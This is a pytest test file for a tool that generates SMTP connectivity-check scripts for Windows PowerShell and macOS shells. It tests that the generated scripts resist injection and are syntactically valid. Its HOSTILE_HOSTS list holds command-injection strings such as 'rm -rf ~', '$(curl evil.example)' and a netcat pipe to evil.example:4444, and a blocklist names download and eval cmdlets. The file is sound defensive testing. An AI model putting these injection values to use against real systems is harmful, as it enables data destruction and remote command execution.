"""The generated client-check scripts: only the named host, no injection, valid syntax."""

from __future__ import annotations

import functools
import re
import shutil
import subprocess

import pytest

from diagnostics import InputError
from diagnostics._models import (
    Endpoint,
    Security,
)
from diagnostics.client_check import (
    BEGIN_MARKER,
    END_MARKER,
    ClientTargets,
    TargetPort,
    client_check_script,
    targets_for,
)
from tests.factories import probe, report

HOSTILE_HOSTS = [
    "smtp.example.com; rm -rf ~",
    "smtp.example.com && calc",
    "$(curl evil.example)",
    "smtp.$(whoami).example.com",
    "`id`.example.com",
    "smtp.example.com`id`",
    "smtp.example.com'; Start-Process calc; '",
    'smtp.example.com"; Start-Process calc; "',
    "smtp.example.com\nrm -rf ~",
    "smtp.example.com\r\nStart-Process calc",
    "smtp.example.com\n",
    "smtp.example.com | nc evil.example 4444",
    "smtp.example.com > /tmp/x",
    "$env:USERPROFILE",
    "${IFS}",
    "fe80::1%';calc;'",
    "fe80::1%$(id)",
    "fe80::1%eth0",
    "",
    "   ",
    "-oProxyCommand=calc",
    "smtp.example.com\x00",
    "smtp.example.com\t-x",
]


# The scripts here are for smtp.example.com unless a test says otherwise.
_report = functools.partial(report, host="smtp.example.com")


@pytest.mark.parametrize("platform", ["windows", "mac"])
@pytest.mark.parametrize("host", HOSTILE_HOSTS)
def test_hostile_host_is_refused(host: str, platform: str) -> None:
    with pytest.raises(InputError):
        client_check_script(host, platform)


@pytest.mark.parametrize("platform", ["windows", "mac"])
def test_hostile_host_in_targets_is_refused(platform: str) -> None:
    # ClientTargets validates too; a model built around validation is refused again.
    with pytest.raises(ValueError):
        ClientTargets(host="a.example;id", ports=(TargetPort(port=587, security="starttls"),))
    forged = ClientTargets.model_construct(
        host="a.example'; id; '", ports=(TargetPort(port=587, security="starttls"),)
    )
    with pytest.raises(InputError):
        client_check_script(forged, platform)


def _quoted_strings(script: str) -> list[str]:
    return re.findall(r"'([^']*)'", script)


@pytest.mark.parametrize("platform", ["windows", "mac"])
@pytest.mark.parametrize(
    ("host", "expected"),
    [
        ("SMTP.Example.COM", "smtp.example.com"),
        ("bücher.example", "xn--bcher-kva.example"),
        ("192.0.2.10", "192.0.2.10"),
        ("[2001:db8::25]", "2001:db8::25"),
    ],
)
def test_only_the_named_host_appears(platform: str, host: str, expected: str) -> None:
    script = client_check_script(host, platform)
    # Every host-like token inside a quoted string is the named host (or our EHLO name).
    literals = re.findall(r"'([^']*)'|\"([^\"]*)\"", script)
    text = " ".join(a or b for a, b in literals).lower()
    text = re.sub(r"\$\([^)]*\)|\$\{?\w+\}?", " ", text)  # code inside "...", not a host
    names = set(
        re.findall(
            r"(?:[a-z0-9-]+\.)+[a-z][a-z0-9-]+|[0-9a-f]*:[0-9a-f:]+:[0-9a-f]+|\d+\.\d+\.\d+\.\d+",
            text,
        )
    )
    assert names <= {expected, "smtpcheck.invalid"}, names
    # Every connection goes to that host: PowerShell through $h, the shell through SC_H.
    if platform == "windows":
        assert script.count("BeginConnect(") == 1 and "BeginConnect($h, $p" in script
        assert "AuthenticateAsClient($h," in script
    else:
        assert re.findall(r"nc -vz -G 5 (\S+)", script) == ['"${SC_H}"']
        connects = re.findall(r"-connect \"([^\"]+)\"", script)
        bracketed = f"[{expected}]" if ":" in expected else expected
        assert connects == [f"{bracketed}:${{SC_P}}"] * 2
    assert expected in script
    assert BEGIN_MARKER in script and END_MARKER in script


def test_windows_script_shape() -> None:
    script = client_check_script(_report(port=465, security=Security.SSL), "windows")
    assert "$h = 'smtp.example.com'" in script
    assert "$ports = @(465, 587)" in script
    assert "$implicit = @(465)" in script
    # Never installs or loads anything, never writes files, never sends mail.
    for forbidden in (
        "Install-",
        "Import-Module",
        "Invoke-WebRequest",
        "Out-File",
        "Set-Content",
        "DownloadString",
        "MAIL FROM",
        "RCPT",
        "AUTH",
        "Invoke-Expression",
        "iex ",
    ):
        assert forbidden not in script
    # Balanced braces, parentheses and quotes (no pwsh here to parse it).
    assert _balanced(script)
    assert len(script) < 3000  # fits one Slack section block


def test_mac_script_shape() -> None:
    script = client_check_script(_report(port=587), "mac")
    assert "SC_H='smtp.example.com'" in script
    assert "for SC_P in 587 465; do" in script
    assert "nc -vz -G 5" in script
    assert "-starttls smtp" in script
    assert "-servername 'smtp.example.com'" in script
    assert "#" not in script  # interactive zsh rejects comments
    assert len(script) < 3000


def test_mac_script_ip_literal_has_no_sni_and_brackets_v6() -> None:
    script = client_check_script("2001:db8::25", "mac")
    assert "-servername" not in script
    assert '-connect "[2001:db8::25]:${SC_P}"' in script
    assert "SC_H='2001:db8::25'" in script


@pytest.mark.parametrize("shell", ["bash", "dash", "zsh"])
def test_mac_script_is_valid_shell(shell: str) -> None:
    exe = shutil.which(shell)
    if exe is None:
        pytest.skip(f"{shell} not installed")
    script = client_check_script(_report(port=25), "mac")
    done = subprocess.run([exe, "-n"], input=script, text=True, capture_output=True, timeout=10)
    assert done.returncode == 0, done.stderr


def test_targets_from_report_include_entered_and_probed_ports() -> None:
    report = _report(
        port=2525,
        security=Security.STARTTLS,
        probes=(
            probe(2525, address="192.0.2.1"),
            probe(465, address="192.0.2.1"),
            probe(25, "connect_timeout", address="192.0.2.1", role="alternative"),
            probe(2587, security=Security.SSL, address="192.0.2.9", role="provider"),
        ),
    )
    targets = targets_for(report)
    assert targets.host == "smtp.example.com"
    assert [(t.port, t.security) for t in targets.ports] == [
        (2525, Security.STARTTLS),
        (587, Security.STARTTLS),
        (465, Security.SSL),
        (25, Security.STARTTLS),
    ]


def test_targets_use_the_security_seen_working() -> None:
    # The user entered 465 with STARTTLS (the classic trap); the check must use implicit TLS
    # there, as the bot saw it work, or it would wait for a greeting that never comes.
    report = _report(
        port=465,
        security=Security.STARTTLS,
        probes=(probe(465, security=Security.SSL, address="192.0.2.1", role="mode_check"),),
    )
    ports = {t.port: t.security for t in targets_for(report).ports}
    assert ports[465] is Security.SSL


def test_targets_from_email_report_use_recommended_host() -> None:
    report = _report(
        host=None,
        port=None,
        recommended=Endpoint(host="smtp.provider.example", port=587, security=Security.STARTTLS),
    )
    assert targets_for(report).host == "smtp.provider.example"
    with pytest.raises(InputError):
        targets_for(_report(host=None, port=None))


def _balanced(script: str) -> bool:
    """Brackets balance outside quotes; quotes close on their line (PowerShell rules, roughly)."""
    stack: list[str] = []
    pairs = {")": "(", "]": "[", "}": "{"}
    quote: str | None = None
    for line in script.splitlines():
        i = 0
        while i < len(line):
            ch = line[i]
            if quote:
                if ch == "`" and quote == '"':
                    i += 2
                    continue
                if ch == quote:
                    quote = None
                elif quote == '"' and line.startswith("$(", i):
                    # Sub-expressions inside double quotes are code; count their brackets.
                    depth, j = 0, i + 1
                    while j < len(line):
                        depth += {"(": 1, ")": -1}.get(line[j], 0)
                        if depth == 0:
                            break
                        j += 1
                    if depth:
                        return False
                    i = j
            elif ch in "'\"":
                quote = ch
            elif ch in "([{":
                stack.append(ch)
            elif ch in ")]}":
                if not stack or stack.pop() != pairs[ch]:
                    return False
            i += 1
        if quote:
            return False
    return not stack and quote is None


def test_balance_checker_catches_broken_scripts() -> None:
    assert _balanced("& { 'a'; \"b $(c) d\" }")
    assert not _balanced("& { 'a' ")
    assert not _balanced("& { 'a }")
    assert not _balanced('"$(x"')
    assert not _balanced("foo)")


# --------------------------------------------------------------------------- PowerShell grammar

_PS_COMMANDS = {"New-Object", "rd", "wr", "why", "%"}
_PS_MEMBERS = {
    "ReadByte",
    "ASCII",
    "GetBytes",
    "Write",
    "Length",
    "Exception",
    "InnerException",
    "GetType",
    "Name",
    "SocketErrorCode",
    "Message",
    "BeginConnect",
    "AsyncWaitHandle",
    "WaitOne",
    "EndConnect",
    "Client",
    "RemoteEndPoint",
    "GetStream",
    "ReadTimeout",
    "e",
    "AuthenticateAsClient",
    "RemoteCertificate",
    "SslProtocol",
    "Subject",
    "Issuer",
    "NotAfter",
    "ToUniversalTime",
    "ToString",
    "InvariantCulture",
    "Create",
    "ComputeHash",
    "RawData",
    "Close",
    "Count",
}


def _ps_tree(script: str):
    ts = pytest.importorskip("tree_sitter")
    grammar = pytest.importorskip("tree_sitter_powershell")
    return ts.Parser(ts.Language(grammar.language())).parse(script.encode())


def _nodes(node, kind: str) -> list[str]:
    found = [node.text.decode()] if node.type == kind else []
    for child in node.children:
        found += _nodes(child, kind)
    return found


def _has_error(node) -> bool:
    return node.type == "ERROR" or node.is_missing or any(_has_error(c) for c in node.children)


@pytest.mark.parametrize("host", ["smtp.example.com", "2001:db8::25", "xn--bcher-kva.example"])
def test_windows_script_parses_with_the_powershell_grammar(host: str) -> None:
    script = client_check_script(_report(host=host, port=2525), "windows")
    tree = _ps_tree(script)
    assert not _has_error(tree.root_node)
    # Only the few commands and members the check needs: nothing that downloads, starts a
    # process, writes a file or evaluates text.
    assert set(_nodes(tree.root_node, "command_name")) <= _PS_COMMANDS
    assert set(_nodes(tree.root_node, "member_name")) <= _PS_MEMBERS
    literals = _nodes(tree.root_node, "verbatim_string_characters")
    assert [lit for lit in literals if host in lit] == [f"'{host}'"]  # only `$h = '<host>'`
    # The only bytes ever written go to the plain stream, before TLS: EHLO and STARTTLS.
    assert re.findall(r"\bwr \$(\w+) '([^']*)'", script) == [
        ("s", "EHLO smtpcheck.invalid"),
        ("s", "STARTTLS"),
    ]
    assert "$l.Write" not in script and ".Write(" not in script.replace("$s.Write(", "")


def test_powershell_grammar_catches_a_broken_script() -> None:
    script = client_check_script("smtp.example.com", "windows")
    assert _has_error(_ps_tree(script.replace("$false)", "$false", 1)).root_node)
    assert _has_error(_ps_tree(script.replace("} finally {", "} finally ", 1)).root_node)


@pytest.mark.parametrize("platform", ["windows", "mac"])
def test_longest_host_and_most_ports_still_fit_a_slack_block(platform: str) -> None:
    host = ".".join(["a" * 63, "b" * 63, "c" * 63, "d" * 61])  # 253 characters
    targets = ClientTargets(
        host=host,
        ports=tuple(TargetPort(port=p, security="starttls") for p in range(2520, 2528)),
    )
    assert len(client_check_script(targets, platform)) < 3000
